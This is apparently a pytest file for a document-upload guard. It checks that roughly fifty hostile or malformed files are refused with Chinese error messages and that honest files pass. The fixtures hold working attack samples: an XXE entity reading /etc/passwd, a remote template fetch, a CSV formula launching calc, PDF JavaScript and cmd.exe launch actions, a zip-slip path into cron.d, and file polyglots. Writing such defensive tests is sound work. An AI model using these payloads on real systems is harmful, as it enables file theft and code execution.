"""Attachments: forty hostile or mistaken files, each refused with a remedy, and the honest ones of every sort."""

import pytest

from apps.core import files
from apps.core.errors import Defects
from apps.core.files import guard
from tests.core import uploads, workbooks

XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REMOTE = (
    f'<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="r1" Type="{OFFICE}/attachedTemplate" '
    'Target="http://198.51.100.1/x.dotm" TargetMode="External"/></Relationships>'
).encode()
MACRO_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="t"><Override '
    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PAGE = b"<!DOCTYPE html><script>alert(1)</script>"
HOSTILE = {
    "nothing": (b"", "a.pdf", "文件是空的"),
    "only blanks": (b" \n\t", "a.txt", "文件是空的"),
    "too large": (lambda: b"a" * (guard.MAX_BYTES + 1), "a.txt", "文件有 20.0 MB，超过上限 20 MB"),
    "no name": (b"x", " ", "文件没有名字"),
    "hidden name": (b"x", ".htaccess", "文件没有名字"),
    "huge name": (b"x", "长" * 200 + ".txt", "文件名有 204 个字"),
    "nul in the name": (b"x", "a.txt\0.exe", "看不见的字符"),
    "right-to-left name": (b"x", "合同\u202efdp.exe.txt", "看不见的字符"),
    "no ending": (b"x", "readme", "不收没有扩展名的文件"),
    "program": (b"MZ\x90", "setup.exe", "不收.exe的文件"),
    "double ending": (uploads.pdf(), "invoice.exe.pdf", "文件名里有两个扩展名（.exe.pdf）"),
    "ending behind the real one": (uploads.pdf(), "invoice.pdf.js", "不收.js的文件"),
    "archive": (uploads.folder(), "材料.zip", "不收.zip的文件"),
    "old word": (workbooks.cfb({"WordDocument": b"x"}), "a.doc", "不收.doc的文件"),
    "macro document": (uploads.docx(), "a.docm", "不收.docm的文件"),
    "macro book": (workbooks.xlsx([["甲"]]), "a.xlsm", "不收.xlsm的文件"),
    "picture with a script": (SVG, "logo.svg", "不收.svg的文件"),
    "page": (PAGE, "a.html", "不收.html的文件"),
    "page as png": (PAGE, "a.png", "内容与扩展名 .png 不符"),
    "svg as png": (SVG, "a.png", "内容与扩展名 .png 不符"),
    "svg as text": (SVG, "a.txt", "扩展名是文本，内容却不是"),
    "page as csv": (b"\xef\xbb\xbf" + PAGE, "a.csv", "扩展名是文本，内容却不是"),
    "png as pdf": (uploads.png(), "a.pdf", "内容与扩展名 .pdf 不符"),
    "pdf as docx": (uploads.pdf(), "a.docx", "内容与扩展名 .docx 不符"),
    "xlsx as docx": (workbooks.xlsx([["甲"]]), "a.docx", "压缩包里没有正文"),
    "plain zip as docx": (uploads.folder(), "a.docx", "压缩包里没有正文"),
    "program as text": (b"MZ\x90\0\3\0\0\0", "a.txt", "读不出的字节"),
    "command in a sheet": (b"name,x\n1,=cmd|'/c calc'!A0\n", "a.csv", "会执行程序的公式"),
    "png bomb": (uploads.png(60_000, 60_000), "a.png", "图片尺寸不合理（60000×60000）"),
    "png and zip": (uploads.png() + uploads.folder(), "a.png", "后面跟着别的内容"),
    "zip within png": (
        uploads.png(extra=uploads.chunk(b"zTXt", uploads.folder())),
        "a.png",
        "内部混有别的内容",
    ),
    "jpeg and page": (uploads.jpeg(b"\xff\xfe\x00\x30<script>alert(1)</script>"), "a.jpg", "内部混有别的内容"),
    "jpeg and more": (uploads.jpeg() + b"<?php", "a.jpeg", "后面跟着别的内容"),
    "webp that lies": (uploads.webp() + b"PK", "a.webp", "后面跟着别的内容"),
    "pdf and zip": (uploads.pdf() + uploads.folder() + b"%%EOF", "a.pdf", "内部混有别的内容"),
    "pdf with a script": (uploads.pdf(b"/OpenAction<</S/JavaScript/JS(x)>>"), "a.pdf", "PDF 里有脚本"),
    "pdf with a hidden script": (uploads.pdf(b"/OpenAction<</S/J#61vaScript>>"), "a.pdf", "PDF 里有脚本"),
    "pdf that starts programs": (uploads.pdf(b"/AA<</S/Launch/F(cmd.exe)>>"), "a.pdf", "PDF 里有脚本"),
    "locked pdf": (uploads.pdf(b"/Encrypt 5 0 R"), "a.pdf", "PDF 加了密码或限制"),
    "cut pdf": (uploads.pdf()[:-7], "a.pdf", "PDF 不完整"),
    "zip bomb": (uploads.bomb, "a.docx", "倍，不像正常正文"),
    "document with xxe": (uploads.docx_with({"word/document.xml": XXE}), "a.docx", "文档类型声明"),
    "document that fetches a template": (
        uploads.docx_with({"word/_rels/settings.xml.rels": REMOTE}),
        "a.docx",
        "文档链接了外部数据",
    ),
    "document with macros": (uploads.docx_with({"word/vbaProject.bin": b"x"}), "a.docx", "文档里有宏或控件"),
    "macro type": (uploads.docx_with({"[Content_Types].xml": MACRO_TYPES}), "a.docx", "文档里有宏或控件"),
    "zip slip": (uploads.docx_with({"../../etc/cron.d/x": b"x"}), "a.docx", "部件路径越界"),
    "locked entry": (uploads.locked(), "a.docx", "文件有打开密码"),
    "locked document": (workbooks.cfb({"EncryptedPackage": b"x"}), "a.docx", "文件有打开密码"),
    "program inside": (uploads.docx_with({"word/embeddings/oleObject1.bin": b"x"}), "a.docx", "夹带了别的文件"),
    "archive inside": (uploads.pptx({"ppt/media/a.zip": uploads.folder()}), "a.pptx", "夹带了别的文件"),
    "macro book inside": (
        uploads.pptx({"ppt/embeddings/book.xlsx": workbooks.with_part("xl/vbaProject.bin", b"x")}),
        "a.pptx",
        "工作簿里有宏",
    ),
    "book in book in slides": (
        uploads.pptx({"ppt/embeddings/a.xlsx": workbooks.with_part("xl/embeddings/b.xlsx", b"x")}),
        "a.pptx",
        "夹带了别的文件",
    ),
    "cut document": (uploads.docx()[:-60], "a.docx", "文件不完整或已损坏"),
    "something before": (b"PK\x03\x04" + uploads.docx(), "a.docx", "混有别的内容"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_or_mistaken_file_is_refused_with_a_remedy(name):
    data, filename, says = HOSTILE[name]
    with pytest.raises(Defects) as refused:
        files.inspect(data() if callable(data) else data, filename)
    (defect,) = refused.value.defects
    assert says in defect.message
    assert defect.remedy and defect.field == "file"
    assert not guard.HIDDEN.search(defect.message)


@pytest.mark.parametrize(
    ("data", "name", "declared", "type"),
    [
        (uploads.pdf(), "证书.pdf", "application/pdf", "application/pdf"),
        (uploads.docx(), "意向书.DOCX", "application/octet-stream", files.FORMATS[".docx"].type),
        (workbooks.xlsx([["名称"]]), "台账 v1.2.xlsx", "", files.FORMATS[".xlsx"].type),
        (uploads.pptx(), "路演.pptx", "application/zip", files.FORMATS[".pptx"].type),
        (
            uploads.pptx({"ppt/embeddings/a.xlsx": workbooks.xlsx([["甲"]])}),
            "图表.pptx",
            "",
            files.FORMATS[".pptx"].type,
        ),
        (uploads.png(), "照片.png", "image/png", "image/png"),
        (uploads.jpeg(), "照片.jpg", "image/jpeg", "image/jpeg"),
        (uploads.jpeg() + b"\0\0", "照片.jpeg", "image/pjpeg", "image/jpeg"),
        (uploads.webp(), "照片.webp", "image/webp", "image/webp"),
        ("名称,型号\n甲,-1\n".encode("gb18030"), "台账.csv", "application/vnd.ms-excel", "text/csv"),
        ("会议纪要：5 < 6\n".encode(), "纪要.txt", "text/plain; charset=utf-8", "text/plain"),
        (uploads.pdf(), "C:\\Users\\li\\证书.pdf", "application/pdf", "application/pdf"),
    ],
)
def test_an_honest_file_passes(data, name, declared, type):
    looked = files.inspect(data, name, declared)
    assert looked.format.type == type
    assert looked.name == name.rpartition("\\")[2]


@pytest.mark.parametrize("declared", ["text/html", "image/svg+xml", "application/x-msdownload", "image/png"])
def test_a_type_that_contradicts_the_ending_is_refused(declared):
    with pytest.raises(Defects, match="与扩展名 .pdf 不符"):
        files.inspect(uploads.pdf(), "a.pdf", declared)


def test_there_are_at_least_twenty_hostile_files():
    assert len(HOSTILE) >= 20
